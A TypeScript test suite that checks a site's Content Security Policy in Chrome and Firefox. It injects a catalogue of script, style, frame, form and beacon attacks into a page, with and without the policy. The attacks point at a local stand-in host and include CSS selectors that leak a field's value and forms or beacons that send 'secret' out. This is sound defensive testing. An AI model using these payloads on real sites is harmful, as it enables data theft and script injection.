import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { staticServer } from '../../commands/static-server.ts';
import { previewHeaders } from '../../src/hosting/headers.ts';
import { source } from '../../src/languages/languages.ts';
import { copyName } from '../../src/model/copies.ts';
import { useBrowser } from '../browser.ts';
import {
	extract,
	type FolderBrowser,
	fileUrl,
	folderBrowsers,
	hostileFolder,
	launchFolderBrowser,
	removeFolder,
} from '../folder-browser.ts';
import { everyPage, manifest } from '../pages.ts';
import { addresses, dist } from '../site.ts';

// What somebody may get into a page, after its policy: each attack is made on the page as it is published, and on the
// same page without its policy, where it must do harm, or the test would show nothing.

declare global {
	/** Names of what runs that should not. */
	var ran: string[];
	/** What the browser refused: a directive, and an address where there is one. */
	var reported: { directive: string; address: string }[];
}

interface Attack {
	name: string;
	/** What is put into the page. @param foe address on another host @param id of the attack, in its address */
	html?: (foe: string, id: string) => string;
	/** What a script does that runs in the page already. */
	run?: (foe: string, id: string) => unknown;
	/** The directive by which a browser says that it refused. */
	refused: RegExp;
	/** Where no such thing happens even without a policy. */
	tame?: (FolderBrowser | 'file' | 'firefox file')[];
	/** Browsers that refuse and do not say so. */
	silent?: FolderBrowser[];
}

const script = /^script-src/;
const image = /^img-src/;
const connect = /^connect-src/;
// In a folder a copy's own `fetch` loads scripts.
const connectOrScript = /^(connect|script)-src/;
const media = /^media-src/;
const style = /^style-src/;
const frame = /^(frame|child|default)-src/;
const object = /^object-src/;
const form = /^form-action/;
const worker = /^worker-src/;

const mark = (id: string, where = 'globalThis') => `${where}.ran.push('${id}')`;
const styled = (id: string, css: string) => `<style>${css}</style><p class="${id}">x</p>`;

/** What a browser refuses by its address: all of them at once. */
const named: Attack[] = [
	{ name: 'script of another host', html: (foe) => `<script src="${foe}/a.js"></script>`, refused: script },
	{
		name: 'module of another host',
		html: (foe) => `<script type="module" src="${foe}/a.js"></script>`,
		refused: script,
	},
	{
		name: 'background in a style attribute',
		html: (foe) => `<p style="background-image:url(${foe}/a.svg)">x</p>`,
		refused: image,
	},
	{
		name: 'background in a style',
		html: (foe, id) => styled(id, `.${id}{background-image:url(${foe}/a.svg)}`),
		refused: image,
	},
	{
		name: 'style that spies on a field',
		html: (foe, id) => `${styled(id, `[value^=s]{background:url(${foe}/s.svg)}`)}<input value="secret">`,
		refused: image,
	},
	{ name: '@import', html: (foe, id) => styled(id, `@import "${foe}/a.css";`), refused: style },
	{
		name: '@font-face',
		html: (foe, id) => styled(id, `@font-face{font-family:${id};src:url(${foe}/a.woff2)}.${id}{font-family:${id}}`),
		refused: /^font-src/,
	},
	{ name: 'mask', html: (foe, id) => styled(id, `.${id}{mask-image:url(${foe}/a.svg)}`), refused: image },
	{ name: 'content', html: (foe, id) => styled(id, `.${id}::before{content:url(${foe}/a.svg)}`), refused: image },
	{ name: 'stylesheet', html: (foe) => `<link rel="stylesheet" href="${foe}/a.css">`, refused: style },
	{ name: '<img>', html: (foe) => `<img alt="" src="${foe}/a.svg">`, refused: image },
	{ name: 'srcset', html: (foe) => `<img alt="" srcset="${foe}/a.svg 1x">`, refused: image },
	{
		name: '<picture>',
		html: (foe) => `<picture><source srcset="${foe}/a.svg"><img alt="" src="data:,"></picture>`,
		refused: image,
	},
	{ name: '<input type=image>', html: (foe) => `<input type="image" alt="" src="${foe}/a.svg">`, refused: image },
	{ name: '<svg><image>', html: (foe) => `<svg><image href="${foe}/a.svg"/></svg>`, refused: image },
	{ name: 'poster', html: (foe) => `<video poster="${foe}/a.svg"></video>`, refused: image },
	{ name: '<video>', html: (foe) => `<video preload="auto" src="${foe}/a.webm"></video>`, refused: media },
	{ name: '<audio>', html: (foe) => `<audio preload="auto" src="${foe}/a.mp3"></audio>`, refused: media },
	{
		name: 'preload of a picture',
		html: (foe) => `<link rel="preload" as="image" href="${foe}/a.svg">`,
		refused: image,
		silent: ['firefox'],
	},
	{
		name: 'preload of a script',
		html: (foe) => `<link rel="preload" as="script" href="${foe}/a.js">`,
		refused: script,
		silent: ['firefox'],
	},
	{
		name: 'modulepreload',
		html: (foe) => `<link rel="modulepreload" href="${foe}/a.js">`,
		refused: script,
		silent: ['firefox'],
	},
	{
		name: 'prefetch',
		html: (foe) => `<link rel="prefetch" href="${foe}/a.html">`,
		refused: /^(default|prefetch)-src/,
		tame: ['firefox file'],
	},
	{
		name: 'fetch',
		run: (foe) => void fetch(`${foe}/a`, { mode: 'no-cors' }).catch(() => {}),
		refused: connectOrScript,
	},
	{
		name: 'XMLHttpRequest',
		run: (foe) => {
			const request = new XMLHttpRequest();
			request.open('GET', `${foe}/a`);
			request.send();
		},
		refused: connect,
	},
	{ name: 'WebSocket', run: (foe) => void new WebSocket(foe.replace('http', 'ws')), refused: connect },
	{ name: 'EventSource', run: (foe) => void new EventSource(`${foe}/a`), refused: connect },
	{ name: 'sendBeacon', run: (foe) => void navigator.sendBeacon(`${foe}/a`, 'secret'), refused: connect },
	{
		name: 'Image',
		run: (foe) => {
			new Image().src = `${foe}/a.svg`;
		},
		refused: image,
	},
	{
		name: 'Audio',
		run: (foe) => {
			const audio = new Audio(`${foe}/a.mp3`);
			audio.preload = 'auto';
			audio.load();
		},
		refused: media,
	},
	{
		name: 'FontFace',
		run: (foe) => void new FontFace('foe', `url(${foe}/a.woff2)`).load().catch(() => {}),
		refused: /^font-src/,
	},
	{
		name: 'rule put into a stylesheet',
		run: (foe) => {
			const sheet = document.head.appendChild(document.createElement('style')).sheet;
			sheet?.insertRule(`body::after{content:url(${foe}/a.svg)}`);
		},
		refused: image,
	},
	{
		name: 'script element made by a script',
		run: (foe) => {
			const made = document.createElement('script');
			made.src = `${foe}/a.js`;
			document.head.append(made);
		},
		refused: script,
	},
];

/** What it refuses without one, or tells only the host: without a policy all at once, with it one by one. */
const unnamed: Attack[] = [
	{ name: '<iframe>', html: (foe) => `<iframe src="${foe}/a.html"></iframe>`, refused: frame },
	{ name: '<object>', html: (foe) => `<object data="${foe}/a.html"></object>`, refused: object },
	{ name: '<embed>', html: (foe) => `<embed src="${foe}/a.html">`, refused: object },
	{
		name: 'frame made by a script',
		run: (foe) => {
			const made = document.createElement('iframe');
			made.src = `${foe}/a.html`;
			document.body.append(made);
		},
		refused: frame,
	},
	{ name: 'script in the page', html: (_, id) => `<script>${mark(id)}</script>`, refused: script },
	{
		name: 'script from data:',
		html: (_, id) => `<script src="data:text/javascript,${mark(id)}"></script>`,
		refused: script,
	},
	{ name: 'script in a picture', html: (_, id) => `<svg><script>${mark(id)}</script></svg>`, refused: script },
	{
		name: 'module that imports',
		html: (foe) => `<script type="module">import "${foe}/a.js"</script>`,
		refused: script,
	},
	{ name: 'onerror', html: (_, id) => `<img alt="" src="data:," onerror="${mark(id)}">`, refused: script },
	{ name: 'ontoggle', html: (_, id) => `<details open ontoggle="${mark(id)}"></details>`, refused: script },
	{
		name: 'javascript: in a link that is clicked',
		html: (_, id) => `<a id="${id}" href="javascript:void(${mark(id)})">x</a>`,
		run: (_, id) => document.getElementById(id)?.click(),
		refused: script,
	},
	{
		name: 'javascript: in a frame',
		html: (_, id) => `<iframe src="javascript:void(${mark(id, 'parent')})"></iframe>`,
		refused: /^(script|frame)-src/,
	},
	{
		name: 'script in srcdoc',
		html: (_, id) => `<iframe srcdoc="<script>${mark(id, 'parent')}</script>"></iframe>`,
		refused: script,
	},
	{
		name: 'rules to fetch pages ahead',
		html: (foe) =>
			`<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${foe}/a.html"],"eagerness":"immediate"}]}</script>`,
		refused: script,
		tame: ['firefox', 'file'],
	},
	{
		name: 'stylesheet from data: that imports',
		html: (foe) => `<link rel="stylesheet" href="data:text/css,@import '${foe}/a.css'">`,
		refused: style,
	},
	{
		name: 'frame from data:',
		html: (foe) => `<iframe src="data:text/html,<img src=${foe}/a.svg>"></iframe>`,
		refused: frame,
	},
	{
		name: 'form to javascript:',
		html: (_, id) => `<form id="${id}" action="javascript:void(${mark(id)})"></form>`,
		run: (_, id) => (document.getElementById(id) as HTMLFormElement).requestSubmit(),
		refused: /^(form-action|script-src)/,
	},
	{
		name: 'import()',
		run: (foe) => {
			const made = document.createElement('script');
			made.textContent = `import("${foe}/a.js")`;
			document.head.append(made);
		},
		refused: script,
	},
	{
		name: 'script element from blob:',
		run: (_, id) => {
			const made = document.createElement('script');
			made.src = URL.createObjectURL(new Blob([`ran.push('${id}')`], { type: 'text/javascript' }));
			document.head.append(made);
		},
		refused: script,
	},
	{
		name: 'markup made by a script',
		run: (_, id) => document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="ran.push('${id}')">`),
		refused: script,
	},
	{
		name: 'eval',
		run: (_, id) => void setTimeout(() => Reflect.get(globalThis, 'eval')(`ran.push('${id}')`)),
		refused: script,
	},
	{
		name: 'Function',
		run: (_, id) => void setTimeout(() => Reflect.construct(Function, [`ran.push('${id}')`])()),
		refused: script,
	},
	{
		name: 'text as a timer',
		run: (_, id) => void Reflect.apply(setTimeout, globalThis, [`ran.push('${id}')`]),
		refused: script,
	},
	{
		name: 'worker from blob:',
		run: (_, id) => {
			const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
			made.onmessage = () => {
				globalThis.ran.push(id);
			};
		},
		refused: worker,
	},
	{
		name: 'worker from data:',
		run: (_, id) => {
			const made = new Worker('data:text/javascript,postMessage(1)');
			made.onmessage = () => {
				globalThis.ran.push(id);
			};
		},
		refused: worker,
	},
	{
		name: 'service worker that stays',
		run: (_, id) =>
			void navigator.serviceWorker.register('/worker.js').then(
				(made) => {
					globalThis.ran.push(id);
					return made.unregister();
				},
				() => {},
			),
		refused: worker,
		tame: ['file'],
	},
];

/** What would change the page for the others. */
const alone: Attack[] = [
	{
		name: 'script after a second policy that allows all',
		html: (foe) =>
			`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><script src="${foe}/a.js"></script>`,
		refused: script,
	},
	{
		name: '<base href>',
		html: (foe) => `<base href="${foe}/"><img alt="" src="a.svg">`,
		refused: /^base-uri/,
	},
	{
		name: 'form to another host',
		html: (foe, id) => `<form id="${id}" action="${foe}/form"><input name="q" value="secret"></form>`,
		run: (_, id) => (document.getElementById(id) as HTMLFormElement).requestSubmit(),
		refused: form,
	},
	{
		name: "the site's own form, sent elsewhere by a button",
		html: (foe, id) => `<form action="/"><button id="${id}" formaction="${foe}/form">x</button></form>`,
		run: (_, id) => document.getElementById(id)?.click(),
		refused: form,
	},
	{
		name: 'ping of a link',
		html: (foe, id) => `<a id="${id}" href="#x" ping="${foe}/ping">x</a>`,
		run: (_, id) => document.getElementById(id)?.click(),
		refused: connect,
		tame: ['firefox'],
	},
];

/** Ways out that a policy in a page cannot close. */
const open: Attack[] = [
	{ name: 'meta refresh', html: (foe) => `<meta http-equiv="refresh" content="0;url=${foe}/a.html">`, refused: /^$/ },
	{
		name: 'link that is clicked',
		html: (foe, id) => `<a id="${id}" href="${foe}/a.html">x</a>`,
		run: (_, id) => document.getElementById(id)?.click(),
		refused: /^$/,
	},
	{
		name: 'address set by a script',
		run: (foe) => {
			location.href = `${foe}/a.html`;
		},
		refused: /^$/,
	},
];

/** A host that writes down all that it is asked. */
const types: Record<string, string> = {
	css: 'text/css',
	html: 'text/html',
	js: 'text/javascript',
	svg: 'image/svg+xml',
};
const asked: string[] = [];
let foe: Server;
let foeUrl: string;
let site: Server;
let siteUrl: string;
let folder: string;
/** Changed pages, by address. */
const changed = new Map([['/worker.js', '']]);

const listen = (server: Server): Promise<number> =>
	new Promise((resolve) => server.listen(0, () => resolve((server.address() as AddressInfo).port)));

const plan = manifest.pages.find(({ kind }) => kind === 'session-plan');
if (!plan) throw new Error('The tests need a session plan.');
const file = `${source}/${plan.path}/index.html`;
const copy = copyName(source);

beforeAll(async () => {
	const note = ({ url = '' }: IncomingMessage) => asked.push(url);
	foe = createServer((request, response) => {
		note(request);
		const type = types[request.url?.split('.').at(-1) ?? ''] ?? 'text/event-stream';
		response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' });
		response.end(
			type === types['js'] ? mark : type === types['svg'] ? '<svg xmlns="http://www.w3.org/2000/svg"/>' : '',
		);
	}).on('upgrade', (request, socket) => {
		note(request);
		socket.destroy();
	});
	const files = staticServer(dist);
	site = createServer((request, response) => {
		const html = changed.get(request.url ?? '');
		if (html === undefined) files.emit('request', request, response);
		else {
			// A page is guarded as it is published: with the headers of its host.
			if (policy.test(html)) for (const each of Object.entries(previewHeaders)) response.setHeader(...each);
			response.writeHead(200, { 'content-type': html ? 'text/html; charset=utf-8' : 'text/javascript' }).end(html);
		}
	});
	foeUrl = `http://localhost:${await listen(foe)}`;
	siteUrl = `http://127.0.0.1:${await listen(site)}`;
	folder = hostileFolder();
	extract(join(dist, 'downloads', `${copy}.zip`), folder);
});
afterAll(() => {
	foe.close();
	site.close();
	foe.closeAllConnections();
	site.closeAllConnections();
	removeFolder(folder);
});

const policy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

type Place = 'http' | 'file';

/** The page with attacks right after its policy, where it stands as a reader opens it. @returns its address */
function publish(place: Place, name: string, guarded: boolean, insert: string): string {
	const put = (original: string) => {
		const html = readFileSync(original, 'utf8');
		const [meta] = policy.exec(html) ?? [];
		if (!meta) throw new Error(`${original} has no policy.`);
		return html.replace(meta, () => (guarded ? meta : '') + insert);
	};
	if (place === 'http') {
		changed.set(`/${name}/`, put(join(dist, file)));
		return `${siteUrl}/${name}/`;
	}
	const beside = `${copy}/${file.replace('index.html', `${name}.html`)}`;
	writeFileSync(join(folder, beside), put(join(folder, copy, file)));
	return fileUrl(folder, beside);
}

interface Outcome {
	/** Whether it ran, or another host was asked. */
	harm: boolean;
	/** Directives by which it was refused. */
	reported: string[];
	/** Requests to another host that the browser speaks of. */
	sent: string[];
}

/** Milliseconds to wait for what should happen, and after it for what should not. */
const wait = { forIt: 4000, after: 100 };

/** A page that attacks are made in, one after the other: a browser loads no sound or film for a page in the background. */
async function range(browser: Browser, place: Place) {
	const page = await browser.newPage();
	const sent: string[] = [];
	page.on('request', (request) => request.url().startsWith(foeUrl) && sent.push(request.url()));
	page.on('requestfailed', (request) => {
		// Spoken of, and refused by the policy before it was sent.
		const at = sent.indexOf(request.url());
		if (at >= 0 && /csp|blocked/i.test(request.failure()?.errorText ?? '')) sent.splice(at, 1);
	});
	await page.evaluateOnNewDocument(() => {
		globalThis.ran = [];
		globalThis.reported = [];
		addEventListener('securitypolicyviolation', ({ effectiveDirective: directive, blockedURI: address }) => {
			globalThis.reported.push({ directive, address });
			// A frame's own page has inherited the policy, and reports for itself.
			if (parent !== globalThis.window) parent.postMessage({ directive, address }, '*');
		});
		addEventListener('message', ({ data }) => globalThis.reported.push(data));
	});
	const state = () =>
		page
			.evaluate(() => ({ ran: globalThis.ran, reported: globalThis.reported }))
			.catch((): Pick<typeof globalThis, 'ran' | 'reported'> => ({ ran: [], reported: [] }));

	/** Makes attacks in one page. Several are told apart by their addresses. */
	return async (made: readonly Attack[], guarded: boolean): Promise<Map<Attack, Outcome>> => {
		const ids = new Map(made.map((attack) => [attack, `foe${nextId++}-`]));
		const foeOf = (id: string) => `${foeUrl}/${id}`;
		const insert = [...ids].map(([{ html }, id]) => html?.(foeOf(id), id) ?? '').join('');
		const name = `attack-${[...ids.values()][0]}`;
		await page.goto(publish(place, name, guarded, insert), { waitUntil: 'domcontentloaded' }).catch(() => {});
		for (const [{ run }, id] of ids) if (run) await page.evaluate(run, foeOf(id), id).catch(() => {});
		const outcomes = async () => {
			const { ran, reported } = await state();
			return new Map<Attack, Outcome>(
				[...ids].map(([attack, id]) => [
					attack,
					{
						harm: ran.includes(id) || asked.some((path) => path.startsWith(`/${id}`)),
						reported: reported
							.filter(({ address }) => made.length === 1 || address.includes(id))
							.map(({ directive }) => directive),
						sent: sent.filter((url) => url.startsWith(foeOf(id))),
					},
				]),
			);
		};
		const isOver = ([{ refused }, { harm, reported }]: [Attack, Outcome]) =>
			harm || (guarded && reported.some((directive) => refused.test(directive)));
		for (const end = Date.now() + wait.forIt; Date.now() < end && ![...(await outcomes())].every(isOver); )
			await new Promise((resolve) => setTimeout(resolve, 30));
		await new Promise((resolve) => setTimeout(resolve, guarded ? wait.after : 0));
		return outcomes();
	};
}
let nextId = 10_000;

/** With EVERY_PAGE=1 both browsers in both places; else one on http. */
const places = folderBrowsers
	.flatMap((name) => (['http', 'file'] as Place[]).map((place) => ({ name, place })))
	.filter(({ name, place }) => everyPage || (name === 'chrome' && place === 'http'));
describe.each(places)('in $name, over $place', ({ name, place }) => {
	const isWild = ({ tame = [] }: Attack) =>
		!tame.some((each) => each === name || each === place || each === `${name} ${place}`);
	const guarded = new Map<Attack, Outcome>();
	const bare = new Map<Attack, Outcome>();
	let browser: Browser;
	beforeAll(async () => {
		browser = await launchFolderBrowser(name);
		const attempt = await range(browser, place);
		const note = (into: typeof guarded, outcomes: typeof guarded) => {
			for (const [attack, outcome] of outcomes) into.set(attack, outcome);
		};
		note(guarded, await attempt(named.filter(isWild), true));
		for (const attack of [...unnamed, ...alone].filter(isWild)) note(guarded, await attempt([attack], true));
		note(bare, await attempt([...named, ...unnamed].filter(isWild), false));
		for (const attack of alone.filter(isWild)) note(bare, await attempt([attack], false));
		for (const attack of open) note(guarded, await attempt([attack], true));
	});
	afterAll(() => browser.close());

	test.each([...named, ...unnamed, ...alone].filter(isWild))('$name', (attack) => {
		const outcome = guarded.get(attack);
		expect(outcome?.harm).toBe(false);
		// Firefox's log has what it refuses too.
		if (name === 'chrome') expect(outcome?.sent).toEqual([]);
		if (!attack.silent?.includes(name)) expect(outcome?.reported).toContainEqual(expect.stringMatching(attack.refused));
		expect(bare.get(attack)?.harm, 'without the policy').toBe(true);
	});

	test.each(open)('a policy cannot stop: $name', (attack) => {
		expect(guarded.get(attack)?.harm).toBe(true);
	});
});

describe('a walk through the whole site', () => {
	const walk = useBrowser();

	test('asks this site alone', async () => {
		const { page, requests } = await walk.open('/');
		const queue = addresses()
			.filter((address) => !/^(?:\/[a-z]+)?\/r\//.test(address))
			.values();
		const pages = [page, ...(await Promise.all([1, 2].map(() => page.context().newPage())))];
		for (const other of pages.slice(1)) other.on('request', (request) => requests.push(request.url()));
		await Promise.all(
			pages.map(async (each) => {
				for (const address of queue) await each.goto(address);
			}),
		);
		for (const language of manifest.languages) {
			await page.goto(`/${language}/search/?q=police`);
			await page.locator('[data-search-result]').first().waitFor();
		}
		expect(requests.length).toBeGreaterThan(100);
		expect(requests.filter((url) => !url.startsWith(`${walk.url()}/`) && !url.startsWith('data:'))).toEqual([]);
		console.log(`${requests.length} requests`);
	});
});
